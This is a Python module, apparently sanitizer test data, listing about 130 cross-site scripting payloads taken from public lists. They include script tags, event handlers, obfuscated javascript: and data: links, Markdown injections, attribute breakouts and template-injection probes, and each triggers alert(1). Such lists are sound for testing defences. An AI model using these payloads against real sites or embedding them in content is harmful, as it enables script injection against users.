"""Strings that try to run a script, after the well-known public lists: one a line, each calls alert."""

from __future__ import annotations

_LINES = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=data:text/javascript,alert(1)></script>
<script/x>alert(1)</script>
<script>alert(1)//
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<<script>alert(1);//<</script>
<script>alert`1`</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<IMG ""><SCRIPT>alert(1)</SCRIPT>">
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=image>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<table background=javascript:alert(1)>
<td background=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onclick=alert(1) href=#>x</a>
<a href=x onfocus=alert(1) autofocus>x</a>
<p onpointerenter=alert(1)>x</p>
<xss onafterscriptexecute=alert(1) contenteditable autofocus>
<x contenteditable onblur=alert(1)>x</x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml version="1.0"?><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java	script:alert(1))
[x](&#106;avascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:alert(1))
[x]( javascript:alert(1) "y")
[x](<javascript:alert(1)>)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x"onerror="alert(1)](x)
![x](x"onerror="alert(1))
[x](https://e.example"onclick="alert(1))
[x](https://e.example 'y" onclick="alert(1)')
<javascript:alert(1)>
<data:text/html,alert(1)>
# x {: onclick="alert(1)" }
# x {: onmouseover=alert(1) style="position:fixed;inset:0" }
*x*{: onclick="alert(1)" autofocus onfocus=alert(1) tabindex=0 }
[x](#){: onclick="alert(1)" }
[x](#){: href="javascript:alert(1)" }
![x](x){: onerror="alert(1)" }
[x]: javascript:alert(1)
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
"autofocus onfocus=alert(1) x="
javascript:alert(1)
javascript://e.example/%0aalert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
{{ 7 * 7 }}{% raw %}<script>alert(1)</script>{% endraw %}
{{ config.__class__ }}<img src=x onerror=alert(1)>
${alert(1)}
</script><svg onload=alert(1)>
\u003cscript\u003ealert(1)\u003c/script\u003e
x</li></ul></div></main><script>alert(1)</script>
"""

STRINGS = [line for line in _LINES.splitlines() if line.strip()]
